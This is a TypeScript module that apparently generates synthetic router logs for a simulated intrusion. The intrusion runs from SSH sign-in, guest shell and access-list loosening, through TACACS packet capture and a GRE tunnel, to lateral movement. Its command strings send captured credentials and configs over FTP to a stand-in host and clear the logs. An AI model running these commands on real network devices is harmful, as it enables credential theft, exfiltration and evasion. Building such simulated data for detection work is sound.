import { dayMs, hourMs, minuteMs } from '../calendar.ts'
import type { Attack } from './attack.ts'
import type { Host } from './estate.ts'
import { accounted, flow, routerSays } from './network-log.ts'
import type { World } from './world.ts'

/**
 * An edge router taken over from outside under a network engineer's login: guest shell, a loosened access list, capture of the sign-ins that
 * pass, a tunnel out; then the next routers with what was captured. Only device accounting, router messages and flows show it.
 */
export function routerImplant(world: World, attack: Attack): void {
  const { estate } = world
  const random = world.random('router-implant', attack.number)
  const address = `203.0.113.${random.between(172, 190)}`
  const far = `198.51.100.${random.between(176, 199)}`
  const routers = random.shuffled(estate.of('router'))
  const edge = routers[0] ?? estate.one('router')
  const engineers = estate.admins.map((admin) => admin.name.replace('adm.', 'net.'))
  const user = engineers[0] ?? 'netops'
  let task = 50_000 + random.below(9_000)
  const first = world.from + (12 + random.below(8)) * dayMs + random.between(17, 25) * hourMs

  const signIn = (device: Host, at: number, who: string, from: string): void => {
    accounted(world, device, { at, user: who, from, task: ++task })
    routerSays(world, device, at + 300, {
      process: 'sshd[65899]',
      message: `%SECURITY-SSHD-6-INFO_SUCCESS : Successfully authenticated user '${who}' from '${from}' on 'vty1'(cipher 'aes128-ctr', mac 'hmac-sha2-256')`,
    })
  }
  const type = (device: Host, at: number, who: string, from: string, commands: readonly string[]): number => {
    let when = at
    for (const command of commands) {
      when += random.between(6_000, 40_000)
      accounted(world, device, { at: when, user: who, from, task: ++task, command })
    }
    return when
  }
  const configured = (device: Host, at: number, who: string, from: string): void =>
    routerSays(world, device, at, {
      process: 'config[65850]',
      message: `%MGBL-SYS-5-CONFIG_I : Configured from console by ${who} on vty1 (${from})`,
    })

  for (let tries = 0; tries < random.between(1, 4); tries++)
    routerSays(world, edge, first - (5 - tries) * minuteMs, {
      process: 'sshd[65899]',
      message: `%SECURITY-SSHD-4-INFO_FAILURE : Failed authentication attempt by user '${user}' from '${address}' on 'vty1'`,
    })
  signIn(edge, first, user, address)
  attack.enter(first, edge, { kind: 'router', addresses: [address], account: user })
  attack.compromise(edge)
  attack.stage(first, edge, 'initial-access')
  let at = type(edge, first + minuteMs, user, address, ['show version', 'show running-config', 'show users'])
  attack.stage(at, edge, 'discovery')

  at = type(edge, at + 4 * minuteMs, user, address, ['guestshell enable', 'guestshell run bash -c "cat /etc/hosts"'])
  attack.stage(at, edge, 'execution')
  at = type(edge, at + 5 * minuteMs, user, address, [
    'configure terminal',
    'ipv4 access-list MGMT',
    `5 permit ipv4 host ${address} any`,
    'commit',
  ])
  configured(edge, at, user, address)
  attack.stage(at, edge, 'defense-evasion')

  // Capture of what passes to the sign-in servers.
  const capture = random.pick([
    'monitor capture CAP1 interface TenGigE0/0/0/1 both match tcp any any eq 49',
    'monitor capture CAP1 control-plane both match tcp any any eq 49',
  ])
  at = type(edge, at + 12 * minuteMs, user, address, [capture, 'monitor capture CAP1 start'])
  attack.stage(at, edge, 'credential-access')
  at = type(edge, at + random.between(5, 9) * hourMs, user, address, [
    'monitor capture CAP1 stop',
    'monitor capture CAP1 export harddisk:/tac.pcap',
  ])
  attack.read(edge, 'tac.pcap', ['credentials'])

  // A tunnel out; what was captured leaves through it.
  at = type(edge, at + 8 * minuteMs, user, address, [
    'configure terminal',
    `interface tunnel-ip${random.between(10, 99)}`,
    'tunnel mode gre ipv4',
    `tunnel destination ${far}`,
    'commit',
  ])
  configured(edge, at, user, address)
  attack.stage(at, edge, 'command-and-control')
  const captured = random.between(2_000_000, 40_000_000)
  at = type(edge, at + 6 * minuteMs, user, address, [`copy harddisk:/tac.pcap ftp://${far}/in/t.pcap`])
  flow(world, { at: at + 1_000, from: edge.ip, to: far, port: 21, sent: captured, received: 4_000, seconds: 40, service: 'ftp' })
  attack.stage(at, edge, 'exfiltration')
  attack.sent(captured)

  // The next routers, from the first one, with what the capture gave.
  const other = engineers[1] ?? user
  let next = at + random.between(18, 40) * hourMs
  for (const device of routers.slice(1, 1 + random.between(1, 2))) {
    accounted(world, edge, { at: next - 4_000, user, from: address, task: ++task, command: `ssh ${device.ip} username ${other}` })
    signIn(device, next, other, edge.ip)
    attack.move(next, { from: edge, to: device, account: other, means: 'ssh' })
    attack.stage(next, device, 'lateral-movement')
    next = type(device, next + minuteMs, other, edge.ip, ['show running-config', 'show bgp neighbors', 'guestshell enable'])
    next = type(device, next + 3 * minuteMs, other, edge.ip, ['configure terminal', 'ssh server vrf default', 'commit'])
    configured(device, next, other, edge.ip)
    const config = random.between(200_000, 900_000)
    next = type(device, next + 4 * minuteMs, other, edge.ip, [`copy running-config ftp://${far}/in/${device.name}.cfg`])
    flow(world, { at: next + 900, from: device.ip, to: far, port: 21, sent: config, received: 1_000, seconds: 4, service: 'ftp' })
    attack.read(device, 'running-config', [])
    attack.sent(config)
    next += random.between(2, 20) * hourMs
  }
  type(edge, next, user, address, ['clear logging'])
  attack.stage(next + minuteMs, edge, 'defense-evasion')
}
